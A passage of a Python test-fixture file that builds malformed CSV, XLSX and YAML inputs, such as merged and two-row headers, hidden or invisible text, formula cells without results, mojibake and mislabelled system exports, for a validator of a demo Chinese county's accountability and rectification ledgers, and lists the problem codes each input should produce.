_totals = (M / 'data/totals.csv').read_text()
d('totals-counts-in-wan-and-percent', {'data/totals.csv': _totals + '2026年,追责问责人数,"1,200",演示县纪委通报,\n2026年,追责问责人数,1.2万,演示县纪委通报,\n2026年,追责问责人数,3千人,演示县纪委通报,\n2026年,追责问责人数,95%,演示县纪委通报,\n'},
  [('data/totals.csv', 4, 'count-scaled'), ('data/totals.csv', 5, 'count-scaled'), ('data/totals.csv', 6, 'count-percent')])
# a month where the day belongs (报送日期 2026-11, 2026年11月): said as a day missing, with
# the form to write, not a bare 'not a valid date'; the day is never guessed
d('date-written-as-a-month', {R: rep(rep(reports, '2026-05-03', '2026-05'), '2026-05-04', '2026年5月')},
  [(R, 2, 'date-no-day'), (R, 3, 'date-no-day')])
# a form's sign for 'does not apply' (/, —) in a typed column: what it is and to leave the
# cell empty, said once with the rows that repeat it, not a bare bad-date each
_open = rep(ledger, '限期整改,整改中,\n', '限期整改,整改中,/\n')
_open += 'TZ-4,ZF01,B3,问题,措施,目标,2026-04-02,2026-06-30,局长,股长,限期整改,整改中,/\nTZ-5,ZF01,B3,问题,措施,目标,2026-04-02,—,局长,股长,限期整改,整改中,\n'
d('ledger-not-applicable-signs-in-typed-columns', {L: _open},
  [(L, 3, 'value-placeholder'), (L, 5, 'value-again'), (L, 6, 'value-placeholder')])
_rank_units = [['年度', '单位', '名次', '得分', '等次'], ['（年）', None, '名', '（分）', None]] + [line.split(',') for line in (M / 'data/rankings.csv').read_text().strip().split('\n')[1:]]
d('xlsx-rankings-units-row-under-the-header', {'data/rankings.xlsx': xlsx({'排名': _rank_units})}, [('data/rankings.xlsx', 2, 'table-units-row')], remove=['data/rankings.csv'])
def _day_without_year(book):
    import datetime as _dt
    sheet = book.active
    sheet['G2'].value = _dt.datetime(2026, 4, 1); sheet['G2'].number_format = 'm"月"d"日"'
    sheet['G3'].value = _dt.datetime(2026, 4, 2); sheet['G3'].number_format = 'yyyy"年"m"月"d"日"'
# a date cell shown without its year (4月1日, Chinese Excel's format for 4-1 typed): the
# year is Excel's guess at the typing, refused as a CSV's 4月1日 is
d('xlsx-date-shown-without-a-year', {'data/ledger/台账.xlsx': xlsx({'台账': [line.split(',') for line in ledger.strip().split('\n')]}, _day_without_year)}, [('data/ledger/台账.xlsx', 2, 'date-no-year')], remove=[L])
def _short_year_cells(book):
    import datetime as _dt
    sheet = book.active
    sheet['G2'].value = _dt.datetime(1930, 5, 3); sheet['G2'].number_format = 'yy-m-d'
    sheet['G3'].value = _dt.datetime(2026, 4, 3); sheet['G3'].number_format = 'yy-m-d'
rows = [line.split(',') for line in ledger.strip().split('\n')]
d('xlsx-two-digit-year-cell-typed-as-1930', {'data/ledger/台账.xlsx': xlsx({'台账': rows}, _short_year_cells)}, [('data/ledger/台账.xlsx', 2, 'date-short-year')], remove=[L])
def _mac_1904_date_number(book):
    # a Mac Excel workbook in the 1904 date system, a date column formatted 常规: the
    # number is refused, its hint counted from the workbook's 1904 (2030-01-02), not 1900
    from openpyxl.utils.datetime import CALENDAR_MAC_1904
    book.epoch = CALENDAR_MAC_1904
    book.active['G2'].value = 46023
d('xlsx-1904-workbook-date-number-hint-counts-from-1904', {'data/ledger/台账.xlsx': xlsx({'台账': rows}, _mac_1904_date_number)}, [('data/ledger/台账.xlsx', 2, 'excel-serial-date')], remove=[L])
def _array_formula_over_a_range(book):
    # one array formula entered over D2:D3 (select, type, Ctrl+Shift+Enter), saved without
    # results: D3 holds no formula of its own in the file; it was read as empty (a bare
    # missing-field) while D2 was refused as a formula without a result
    from openpyxl.worksheet.formula import ArrayFormula
    book.active['D2'] = ArrayFormula('D2:D3', '=UPPER(N2:N3)')
    book.active['D3'] = None
d('xlsx-array-formula-over-a-range-without-results', {'data/ledger/台账.xlsx': xlsx({'台账': rows}, _array_formula_over_a_range)}, [('data/ledger/台账.xlsx', 2, 'xlsx-formula-no-value-rows')], remove=[L])
def _with_computed_formulas(data, cells):
    """Workbook bytes whose cells {ref: (formula, result)} hold a formula with the text
    result Excel saves beside it (openpyxl writes formulas without results)."""
    import io, re as _re, zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info)
            if info.filename == 'xl/worksheets/sheet1.xml':
                for ref, (formula, result) in cells.items():
                    cell = f'<c r="{ref}" t="str"><f>{formula}</f><v>{result}</v></c>'.encode()
                    part, n = _re.subn(rb'<c r="%s"[^>]*?(/>|>.*?</c>)' % ref.encode(), cell, part)
                    assert n == 1, ref
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
    return out.getvalue()
# the id column's formula (="TZ-"&(ROW()-1)) filled down past the data: rows 5-11 hold an
# id and nothing else; one info for the run, not 8 missing-field and 8 missing-again (which
# blamed merged cells); the same rows saved as CSV are said the same way without the formula
_stub_rows = rows + [[f'TZ-{n}'] + [None] * 12 for n in range(4, 11)]
d('xlsx-id-formula-filled-down-past-the-data', {'data/ledger/台账.xlsx': _with_computed_formulas(
    xlsx({'台账': _stub_rows}), {f'A{r}': ('"TZ-"&amp;(ROW()-1)', f'TZ-{r - 1}') for r in range(2, 12)})},
  [('data/ledger/台账.xlsx', 5, 'table-id-only-rows')], remove=[L])
# a picture WPS placed in a cell (嵌入单元格的图片) of a read column: its value is the text of
# =DISPIMG("ID_…",1), which was published as the ledger item's 整改措施; the row is refused
d('xlsx-wps-picture-in-a-cell', {'data/ledger/台账.xlsx': _with_computed_formulas(
    xlsx({'台账': rows}), {'E3': ('_xlfn.DISPIMG(&quot;ID_9F2A6B1C&quot;,1)', '=DISPIMG(&quot;ID_9F2A6B1C&quot;,1)')})},
  [('data/ledger/台账.xlsx', 3, 'table-cell-picture')], remove=[L])
# =IF(L3="已销号",G3,"") down a column: Excel and WPS save the empty text it gives (t="str",
# <v></v>), as the cell shows; it is an empty cell, not a formula without a result (the whole
# row was refused and the clerk told to paste values); rows below the data that hold only such
# formulas show nothing and are nothing. A script's workbook (no t, nothing stored) stays refused.
_if_rows = [r + [None] * (13 - len(r)) for r in rows] + [[None, None, None, 'x'] + [None] * 9 for _n in range(5, 8)]
d('xlsx-formula-whose-result-is-empty-text-is-an-empty-cell', {'data/ledger/台账.xlsx': _with_computed_formulas(
    xlsx({'台账': _if_rows}), {**{f'M{r}': (f'IF(L{r}=&quot;已销号&quot;,G{r},&quot;&quot;)', '') for r in (3, 4)},
                              **{f'D{r}': (f'IF(B{r}=&quot;&quot;,&quot;&quot;,B{r})', '') for r in (5, 6, 7)}})},
  [], remove=[L])
# the same formulas as other writers may store their empty text (WPS's own form is not
# verified here): t="str" with no <v> at all (a text result declared, nothing in it), and an
# inline string result (t="inlineStr", <is><t></t></is>): empty cells as they show; the
# second was refused as a formula without a result, and so was the first
def _with_cells(data, cells):
    import io, re as _re, zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info)
            if info.filename == 'xl/worksheets/sheet1.xml':
                for ref, cell in cells.items():
                    part, n = _re.subn(rb'<c r="%s"[^>]*?(/>|>.*?</c>)' % ref.encode(), cell.encode(), part)
                    assert n == 1, ref
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
    return out.getvalue()
_if = lambda r: f'<f>IF(L{r}=&quot;已销号&quot;,G{r},&quot;&quot;)</f>'
d('xlsx-formula-whose-empty-text-result-has-no-v-or-is-inline', {'data/ledger/台账.xlsx': _with_cells(
    xlsx({'台账': [r + [None] * (13 - len(r)) for r in rows]}), {'M3': f'<c r="M3" t="str">{_if(3)}</c>', 'M4': f'<c r="M4" t="inlineStr">{_if(4)}<is><t></t></is></c>'})},
  [], remove=[L])
# a formula with no result and no type (as a script writes it) stays refused, whichever
# of these forms its neighbours take
d('xlsx-formula-without-type-or-result-beside-empty-text-ones', {'data/ledger/台账.xlsx': _with_cells(
    xlsx({'台账': [r + [None] * (13 - len(r)) for r in rows]}), {'M2': f'<c r="M2">{_if(2)}</c>', 'M3': f'<c r="M3" t="str">{_if(3)}<v/></c>', 'M4': f'<c r="M4" t="str">{_if(4)}</c>'})},
  [('data/ledger/台账.xlsx', 2, 'xlsx-formula-no-value')], remove=[L])
# a clerk's own ledger as offices lay it out: a title, 填报单位 and the month above (the month
# in a column hidden since), a header on two rows whose group names are themselves column
# names (责任人 over 牵头领导 and 责任人姓名; it was read as data under a named column, so every
# required column was missing and no row read), 序号, dates typed as text, a 合计 row, a
# note and the signatures below, a dropdown list: every row read, each habit one info
_H1 = ['序号', '编号', '单位', '问题类别', '问题表现', '整改情况', None, None, None, '责任人', None, '整改类型', '整改状态', '销号日期']
_H2 = [None, None, None, None, None, '整改措施', '整改目标', '建账日期', '整改时限', '牵头领导', '责任人姓名', None, None, None]
_R1 = [1, 'TZ-1', '东城镇', 'B2', '一次性告知不到位', '公开办事指南', '群众满意', '2026.4.1', '2026年5月1日', '党委书记', '王五', '限期整改', '已销号', '2026-04-20']
_R2 = ['2', 'TZ-2', 'ZF01', 'B3', '审批时限长', '精简环节', '时限减半', '2026/4/2', '2026/6/30', '局长', '张三', '限期整改', '整改中', None]
def _two_row_header(top):
    def setup(book):
        from openpyxl.worksheet.datavalidation import DataValidation
        sheet = book.active
        for start in top:
            for c in 'ABCDELMN':
                sheet.merge_cells(f'{c}{start}:{c}{start + 1}')
            sheet.merge_cells(f'F{start}:I{start}'); sheet.merge_cells(f'J{start}:K{start}')
        rule = DataValidation(type='list', formula1='"整改中,已销号"'); rule.add('M5:M100'); sheet.add_data_validation(rule)
        sheet.column_dimensions['O'].hidden = True
    return setup
# a total row with its count in its one cell, under the unit column (the 编号 cell empty)
d('table-total-row-with-its-count-in-the-cell', {W: warn + ',总计：1条,,,,\n'}, [(W, 3, 'table-total-row')])
X = 'data/ledger/台账.xlsx'
d('xlsx-clerks-ledger-with-a-two-row-header-grouped-by-a-column-name', {X: xlsx({'台账': [
    ['演示县为官不为问题整改台账'], ['填报单位：东城镇'] + [None] * 13 + ['2026年5月'], _H1, _H2, _R1, _R2,
    ['合计', None, None, None, '2项'], ['备注：本表由办公室填报。'], ['填报人：李四', None, None, None, None, '审核人：赵六']]}, _two_row_header([3]))},
  [(X, 1, 'table-title-row'), (X, 2, 'table-title-row'), (X, 3, 'table-index-column'), (X, 4, 'table-two-row-header'),
   (X, 7, 'table-total-row'), (X, 8, 'table-notes-rows')], remove=[L])
# the same with a second block further down the sheet: its heading in the 序号 column (it
# was said as a row numbered ahead), its two-row header again (one info, not one a row
# and one a cell merged down it) and its own 合计 row
d('xlsx-second-block-with-its-two-row-header-further-down', {X: xlsx({'台账': [
    ['演示县为官不为问题整改台账'], _H1, _H2, _R1, ['合计', None, None, None, '1项'], [], ['五月份新增'], _H1, _H2, _R2,
    ['合计', None, None, None, '1项']]}, _two_row_header([2, 8]))},
  [(X, 1, 'table-title-row'), (X, 2, 'table-index-column'), (X, 3, 'table-two-row-header'), (X, 5, 'table-total-row'),
   (X, 7, 'table-section-row'), (X, 8, 'table-header-again'), (X, 11, 'table-total-row')], remove=[L])
# a row of formulas a program wrote without results (=源!A4 across: the row shows what another
# sheet holds): every cell read empty, the row was dropped unseen; refused as its formulas are
def _row_of_formulas(book):
    for column in 'ABCDEFGHIJKLM':
        book.active[f'{column}5'] = f"='源'!{column}5"
d('xlsx-row-of-formulas-without-results-is-not-dropped', {'data/ledger/台账.xlsx': xlsx({'台账': rows}, _row_of_formulas)},
  [('data/ledger/台账.xlsx', 5, 'xlsx-formula-no-value')], remove=[L])
# a row and a column sized to nothing (ht="0", width="0": how some programs write what Excel
# marks hidden): unseen by the clerk, they were read and published; said as hidden ones are
def _sized_to_nothing(data):
    import io, zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info)
            if info.filename == 'xl/worksheets/sheet1.xml':
                part = part.replace(b'<row r="3"', b'<row r="3" ht="0" customHeight="1"', 1)
                part = part.replace(b'<sheetData>', b'<cols><col min="10" max="10" width="0" customWidth="1"/></cols><sheetData>', 1)
            dst.writestr(zipfile.ZipInfo(info.filename, (2026, 1, 1, 0, 0, 0)), part)
    return out.getvalue()
d('xlsx-row-and-column-sized-to-nothing-are-hidden', {'data/ledger/台账.xlsx': _sized_to_nothing(xlsx({'台账': rows}))},
  [('data/ledger/台账.xlsx', 1, 'xlsx-hidden-column'), ('data/ledger/台账.xlsx', 3, 'xlsx-hidden-row')], remove=[L])
# a group name merged over three columns (整改情况 over 整改措施, 整改目标, 整改时限) with
# the row of their names below deleted, or holding names not the table's (措施, 目标, 时限):
# it was an unknown column and two missing ones, the merge never named; now the merged
# cell is named at its address with the columns it covers (the missing ones still said)
_MH = ['编号', '单位', '问题类别', '问题表现', '整改情况', None, None, '建账日期', '牵头领导', '责任人', '整改类型', '整改状态', '销号日期']
def _merged_group(book):
    book['台账'].merge_cells('E1:G1')
def _mrow(i):
    return [f'XL-{i}', 'XZ01', 'B2', f'问题{i}', '措施', '目标', '2026-06-30', '2026-04-01', '书记', '主任', '限期整改', '整改中', None]
d('xlsx-group-name-merged-over-columns-is-named', {'data/ledger/东城镇.xlsx': xlsx({'台账': [_MH, _mrow(1), _mrow(2)]}, _merged_group)},
  [('data/ledger/东城镇.xlsx', 1, 'csv-missing-column'), ('data/ledger/东城镇.xlsx', 1, 'csv-missing-column'), ('data/ledger/东城镇.xlsx', 1, 'table-header-merged')])
def _merged_group_over_other_names(book):
    sheet = book['台账']
    sheet.merge_cells('E1:G1')
    for c in 'ABCDHIJKLM':
        sheet.merge_cells(f'{c}1:{c}2')
d('xlsx-group-name-merged-over-names-not-the-tables-is-named', {'data/ledger/东城镇.xlsx': xlsx({'台账': [
    _MH, [None, None, None, None, '措施', '目标', '时限'], _mrow(1)]}, _merged_group_over_other_names)},
  [('data/ledger/东城镇.xlsx', 1, 'csv-missing-column'), ('data/ledger/东城镇.xlsx', 1, 'csv-missing-column'), ('data/ledger/东城镇.xlsx', 1, 'table-header-merged')])
# the instructions a template keeps beside the table (填表说明：… at the head of a column to
# the right, merged over three rows): the office's own notes, said once; the rows they
# stand beside were refused as merged across (xlsx-merged-across), the note an unknown column
def _notes_beside(book):
    book['台账'].merge_cells('O1:R3')
d('xlsx-instructions-beside-the-table-are-the-offices-own', {'data/ledger/东城镇.xlsx': xlsx({'台账': [
    LH + [None, '填表说明：1.编号按“XL-序号”填写。2.状态填整改中或已销号。'], lrow(1), lrow(2), lrow(3)]}, _notes_beside)},
  [('data/ledger/东城镇.xlsx', 1, 'table-own-columns')])
d('xlsx-a-note-column-beside-the-table-is-the-offices-own', {'data/ledger/东城镇.xlsx': xlsx({'台账': [
    LH + [None, '注：'], lrow(1) + [None, '1.本表数据截至5月31日'], lrow(2) + [None, '2.销号须经验收']]})},
  [('data/ledger/东城镇.xlsx', 1, 'table-own-columns')])
# text a clerk cannot see on the screen: white on no fill (白色，背景1 and the standard
# white), a colour on a fill of the same colour, size 1, a row 1 point high. Like hidden
# rows, such rows were read and published unseen; one problem names them all, with the
# first cell and why it cannot be seen. White text on a dark fill is seen and read.
def _unseen_text(book):
    from openpyxl.styles import Font, PatternFill
    sheet = book['台账']
    for cell in sheet[3]:
        cell.font = Font(color='FFFFFFFF')
    sheet['D4'].font = Font(color='FFFFFF00')
    sheet['D4'].fill = PatternFill('solid', fgColor='FFFFFF00')
    sheet['E5'].font = Font(sz=1)
    from openpyxl.styles.colors import Color
    sheet['F6'].font = Font(color=Color(theme=0))
    sheet.row_dimensions[7].height = 1
    for cell in sheet[8]:
        cell.font = Font(color='FFFFFFFF')
        cell.fill = PatternFill('solid', fgColor='FF1F4E79')
d('xlsx-text-the-clerk-cannot-see-is-one-problem', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH] + [lrow(i) for i in range(1, 8)]}, _unseen_text)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-unseen-text')])
# a column's name the clerk cannot see (white on no fill in the header row): the column looks
# unnamed on the screen and its cells were read and published; unseen text was only looked
# for in the data rows. And a column a sliver wide (0.5 character) shows none of its text:
# it was read and published unseen, said as a hidden column now
def _unseen_header(book):
    from openpyxl.styles import Font
    book['台账']['J1'].font = Font(color='FFFFFFFF')
d('xlsx-header-the-clerk-cannot-see-is-refused', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, _unseen_header)},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-unseen-header')])
def _sliver_column(book):
    book['台账'].column_dimensions['J'].width = 0.5
d('xlsx-column-a-sliver-wide-is-hidden', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, _sliver_column)},
  [('data/ledger/东城镇.xlsx', 1, 'xlsx-hidden-column')])
# a summary table kept under the ledger after an empty row (单位 | 问题数 | 已销号): each of its
# rows was a record with a bad id and six missing fields (twenty problems); now one problem
# from its header to the sheet's end. A row after an empty row inside the ledger is a record.
d('xlsx-second-table-below-the-ledger-is-one-problem', {'data/ledger/东城镇.xlsx': xlsx({'台账': [
    LH, lrow(1), [], lrow(2), [], ['单位', '问题数', '已销号'], ['东城镇', '2', '0'], ['县委办公室', '1', '1']]})},
  [('data/ledger/东城镇.xlsx', 6, 'table-second-table')])
# a boxed tick made as Chinese Excel tutorials teach it: R typed in a Wingdings 2 cell shows
# as ☑, but the file holds R, which was read and published as the problem's text
def _symbol_font_tick(book):
    from openpyxl.styles import Font
    book['台账']['D3'] = 'R'
    book['台账']['D3'].font = Font(name='Wingdings 2')
d('xlsx-letter-a-symbol-font-shows-as-a-tick-is-unseen-text', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, _symbol_font_tick)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-unseen-text')])
# a ledger as a clerk keeps it in WPS or a Chinese Excel: a title merged over the table and a
# 填报单位 line, a 序号 column, a header wrapped in its cell (整改⏎时限), a 备注 column, dates
# under 年月日 formats (e"年"…, ;@), typed as 2026.4.2 or in full-width digits, a unit with a
# trailing space, a 销号日期 formula whose result is empty, a 合计 row, notes and the signature
# line under the table, and last year's sheet hidden. Every record is read; each thing the
# reader did is said once, and the hidden sheet with rows is named, never read nor ignored.
_H = ['序号', '编号', '单位', '问题类别', '问题表现', '整改措施', '整改目标', '建账日期', '整改\n时限', '牵头领导', '责任人', '整改类型', '整改状态', '销号日期', '备注']
def _clerks_ledger(book):
    import datetime as _dt
    sheet = book['台账']
    sheet.merge_cells('A1:O1')
    sheet.merge_cells('A2:K2')
    for ref, value, fmt in (('H4', _dt.datetime(2026, 4, 1), 'yyyy"年"m"月"d"日"'), ('I4', _dt.datetime(2026, 5, 1), 'yyyy/m/d;@'),
                            ('N4', _dt.datetime(2026, 4, 20), 'e"年"m"月"d"日"'), ('I6', _dt.datetime(2026, 4, 18), 'yyyy-mm-dd')):
        sheet[ref] = value
        sheet[ref].number_format = fmt
    old = book['旧台账']
    old.sheet_state = 'hidden'
_clerk_rows = [['东城镇整改台账（2026年）'] + [None] * 14,
               ['填报单位：东城镇（盖章）'] + [None] * 10 + ['填报日期：2026年6月1日', None, None, None], _H,
               [1, 'TZ-1', 'XZ01 ', 'B2', '一次性告知不到位 ', '公开办事指南', '群众满意', None, None, '党委书记', '办公室主任', '限期整改', '已销号', None, '已验收'],
               [2, 'TZ-2', 'ZF01', 'B3', '审批时限长', '精简环节', '时限减半', '2026.4.2', '２０２６－０６－３０', '局长', '股长', '限期整改', '整改中', 'x', None],
               [3, 'TZ-3', 'XW01', 'B4', '迟到早退', '考勤通报', '不再发生', '2026-04-03', None, '主任', '副主任', '立行立改', '未整改', 'x', None],
               ['合计', '3项'] + [None] * 13, ['注：整改状态按月更新。'] + [None] * 14,
               ['填报人：张三', None, None, None, None, '审核人：李四'] + [None] * 9]
d('xlsx-a-clerks-ledger-as-wps-saves-it', {'data/ledger/台账.xlsx': _with_computed_formulas(
    xlsx({'台账': _clerk_rows, '旧台账': [_H, [1, 'TZ-9', 'XZ01']]}, _clerks_ledger),
    {f'N{r}': (f'IF(M{r}=&quot;已销号&quot;,G{r},&quot;&quot;)', '') for r in (5, 6)})},
  [('data/ledger/台账.xlsx', 1, 'table-title-row'), ('data/ledger/台账.xlsx', 1, 'xlsx-hidden-sheet'),
   ('data/ledger/台账.xlsx', 2, 'table-title-row'), ('data/ledger/台账.xlsx', 3, 'table-index-column'),
   ('data/ledger/台账.xlsx', 3, 'table-own-columns'), ('data/ledger/台账.xlsx', 7, 'table-total-row'),
   ('data/ledger/台账.xlsx', 8, 'table-notes-rows')], remove=[L])
# the same formula's empty result in a required column: the cell is empty, said as one
d('xlsx-formula-whose-result-is-empty-text-in-a-required-column', {'data/ledger/台账.xlsx': _with_computed_formulas(
    xlsx({'台账': rows}), {'D3': ('IF(B3=&quot;&quot;,&quot;&quot;,VLOOKUP(B3,问题!A:B,2,0))', '')})},
  [('data/ledger/台账.xlsx', 3, 'missing-field')], remove=[L])
d('csv-ids-numbered-ahead-past-the-data', {L: ledger + ''.join(f'TZ-{n},,,,,,,,,,,,\n' for n in range(4, 11))},
  [(L, 5, 'table-id-only-rows')])
# an id alone among records is a record begun: refused as one, not skipped
d('csv-id-only-row-among-records-is-a-record-begun', {L: rep(ledger, '\nTZ-2,', '\nTZ-7,,,,,,,,,,,,\nTZ-2,')},
  [(L, 3, 'missing-field')] * 8)
# what government systems export as "Excel": a web page (HTML) or an XML 电子表格 2003 file
# named .xls (or .xlsx, or renamed .csv), a CSV or tab-separated text named .xls, a .xlsx
# named .xls: said as what each is, with how to save or rename it (each was an
# "Excel 97-2003 工作簿", a CSV whose tags were its header, or 'not a workbook: a CSV')
_export_page = ('<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">'
                '<head><meta charset="utf-8"></head><body><table><tr><td>编号</td><td>单位</td></tr>'
                '<tr><td>TZ-9</td><td>XZ01</td></tr></table></body></html>\n')
_export_xml = ('<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
               '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">'
               '<Worksheet ss:Name="Sheet1"><Table><Row><Cell><Data ss:Type="String">编号</Data></Cell></Row></Table></Worksheet></Workbook>\n')
d('file-system-exports-named-as-excel-are-said-as-what-they-are', {
    'data/ledger/系统导出.xls': _export_page, 'data/ledger/系统导出2.xls': _export_xml,
    'data/ledger/系统导出3.xls': ledger.replace(',', '\t').encode('gb18030'),
    'data/ledger/系统导出4.xls': xlsx({'台账': rows}), 'data/ledger/系统导出5.xlsx': _export_page,
    'data/ledger/系统导出6.csv': _export_xml},
  [('data/ledger/系统导出.xls', 1, 'file-disguised'), ('data/ledger/系统导出2.xls', 1, 'file-disguised'),
   ('data/ledger/系统导出3.xls', 1, 'file-disguised'), ('data/ledger/系统导出4.xls', 1, 'file-disguised'),
   ('data/ledger/系统导出5.xlsx', 1, 'file-disguised'), ('data/ledger/系统导出6.csv', 1, 'file-disguised')])
t = rep(insp, 'ZF01,1,', 'ZF01,-1,')
d('inspection-negative-count', {I: t}, [(I, 2, 'out-of-range')])
t = rep(insp, 'ZF01,1,', 'ZF01,99999999999999999999999,')
d('inspection-count-out-of-range', {I: t}, [(I, 2, 'out-of-range')])
t = rep(insp, 'ZF01,1,', 'ZF01,' + '9' * 5000 + ',')
d('inspection-count-5000-digits', {I: t}, [(I, 2, 'out-of-range')])
t = rep(warn, '黄牌,,', '黄牌,0,')
d('warning-zero-points', {W: t}, [(W, 2, 'out-of-range')])
d('csv-units-reduced-to-header', {U: units.split('\n')[0] + '\n'}, [(U, 1, 'no-records')])

# ---- the sheets clerks make (issue 14, item 2): accepted with an info line, or reported
t = '2026年整改台账,,,,,,,,,,,,\n填报单位：县纪委监委,,,,,,,,,,填报日期：2026-05-01,,\n' + ledger
d('ledger-title-rows-above-header', {L: t}, [(L, 1, 'table-title-row'), (L, 2, 'table-title-row')])
t = '\n'.join(('序号,' if k == 0 else f'{k},') + r for k, r in enumerate(ledger.strip().split('\n'))) + '\n'
d('ledger-index-column', {L: t}, [(L, 1, 'table-index-column')])
t = ledger + '合计,,,,,,,,,,,,\n'
d('ledger-trailing-total-row', {L: t}, [(L, 5, 'table-total-row')])
t = '\n'.join(('序号,' if k == 0 else f'{k},') + r for k, r in enumerate(ledger.strip().split('\n'))) + '\n小 计,3,,,,,,,,,,,,\n'
d('ledger-index-column-and-subtotal', {L: t}, [(L, 1, 'table-index-column'), (L, 5, 'table-total-row')])
def merge_units(book):
    sheet = book['台账']
    sheet['B3'] = sheet['B4'] = None
    sheet.merge_cells('B2:B4')
d('xlsx-unit-cells-merged-down', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2), lrow(3)]}, merge_units)},
  [('data/ledger/东城镇.xlsx', 2, 'xlsx-merged-filled')])
# a ledger row whose text goes on in the next row: typed there with the other cells empty
# (CSV), or with the row's id, unit and dates merged down over both (xlsx): one problem at
# the row that continues, naming the row above, neither a missing-field a column nor a
# duplicate-id with one merged-filled info a column
def merge_continued(book):
    sheet = book['台账']
    for col in 'ABCGHIJKL':
        sheet.merge_cells(f'{col}3:{col}4')
_cont = [None] * 3 + ['群众需多跑一次', '再公开一次流程'] + [None] * 8
d('ledger-row-continued-on-the-next-row', {
    L: rep(ledger, '\nTZ-2,', '\n,,,（续）材料退回两次,,,,,,,,,\nTZ-2,'),
    'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2), _cont, lrow(3)]}, merge_continued)},
  [('data/ledger/东城镇.xlsx', 4, 'table-continued-row'), ('data/ledger/台账.csv', 3, 'table-continued-row')])
def merge_across(book):
    book['台账'].merge_cells('D3:F3')
d('xlsx-cells-merged-across', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1), lrow(2)]}, merge_across)},
  [('data/ledger/东城镇.xlsx', 3, 'xlsx-merged-across')])
def title_merged(book):
    sheet = book['台账']
    sheet.insert_rows(1)
    sheet['A1'] = '东城镇整改台账'
    sheet.merge_cells('A1:M1')
d('xlsx-merged-title-row', {'data/ledger/东城镇.xlsx': xlsx({'台账': [LH, lrow(1)]}, title_merged)},
  [('data/ledger/东城镇.xlsx', 1, 'table-title-row')])
def months(book):
    import datetime as _dt
    sheet = book['月报']
    for row, (value, shown) in enumerate([(_dt.datetime(2026, 10, 1), 'yyyy"年"m"月"'), (_dt.datetime(2026, 9, 1), 'yyyy-mm-dd')], start=2):
        sheet.cell(row, 2).value = value
        sheet.cell(row, 2).number_format = shown
        sheet.cell(row, 3).value = _dt.datetime(2026, 11, 3)
        sheet.cell(row, 3).number_format = 'yyyy/m/d'
d('xlsx-months-stored-as-excel-dates', {'data/reports.xlsx': xlsx({'月报': [['单位', '月份', '报送日期', '零报告'], ['XZ01', None, None, '否'], ['ZF01', None, None, '是']]}, months)},
  [('data/reports.xlsx', 3, 'period-from-date')], remove=[R])
t = 'unit,period,submitted_on,zero_report\nXZ01,2026/4,2026/5/3,否\nZF01,2026年4月,2026/5/4 0:00,是\n'
d('csv-excel-slash-dates-are-read', {R: t}, [])
t = rep(ledger, '2026-04-02,2026-06-30', '4/2/2026,2026-06-30')
d('ledger-month-first-date-is-reported', {L: t}, [(L, 3, 'date-year-last')])
# dates as offices write them, each with one reading: 20260402, the documents' numerals,
# 号 for 日, a weekday after the date (checked)
t = rep(ledger, '2026-04-02,2026-06-30', '20260402,二〇二六年六月三十日')
t = rep(t, '2026-04-03,2026-04-18', '2026年4月3号,2026年4月18日（星期六）')
d('ledger-dates-in-office-forms-are-read', {L: t}, [])
# a weekday that is not the date's: which of the two is wrong is not guessed
t = rep(ledger, '2026-04-03,2026-04-18', '2026-04-03,2026年4月18日（星期五）')
d('ledger-date-with-the-wrong-weekday', {L: t}, [(L, 4, 'date-weekday-mismatch')])
t = rep(case, 'published_on: 2026-05-10', 'published_on: 2026-05-10\nembargo: 2026/5/10 9:00')
d('case-embargo-excel-slash-datetime-is-read', {C: t}, [])
gbk = units.encode('gbk')
d('csv-mojibake-gbk-read-as-utf8-and-saved', {U: gbk.decode('utf-8', errors='replace').encode('utf-8')}, [(U, 2, 'file-mojibake')])
d('csv-mojibake-gbk-read-as-latin1-and-saved', {U: gbk.decode('latin-1').encode('utf-8')}, [(U, 2, 'file-mojibake')])
d('csv-mojibake-utf8-read-as-gbk-and-saved', {U: units.encode('utf-8').decode('gb18030', errors='replace').encode('utf-8')}, [(U, 2, 'file-mojibake')])

# ---- YAML mistakes in Chinese, at the line to change (issue 14, item 4)
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: 东城镇办事员张某某推诿扯皮问题: 通报')
d('yaml-ascii-colon-in-title', {C: t}, [(C, 3, 'yaml-colon-in-value')])
t = rep(case, 'title: 东城镇办事员张某某推诿扯皮问题', 'title: "东城镇办事员张某某推诿扯皮问题')
d('yaml-unclosed-double-quote', {C: t}, [(C, 3, 'yaml-unclosed-quote')])
t = rep(case, 'outcome: 责令整改。', "outcome: '责令整改。")
d('yaml-unclosed-single-quote', {C: t}, [(C, 15, 'yaml-unclosed-quote')])
t = rep(case, 'categories: [A3]', 'categories: [A3')
d('yaml-unclosed-bracket', {C: t}, [(C, 6, 'yaml-unclosed-bracket')])
t = rep(case, '    position: 办事员', '   position: 办事员')
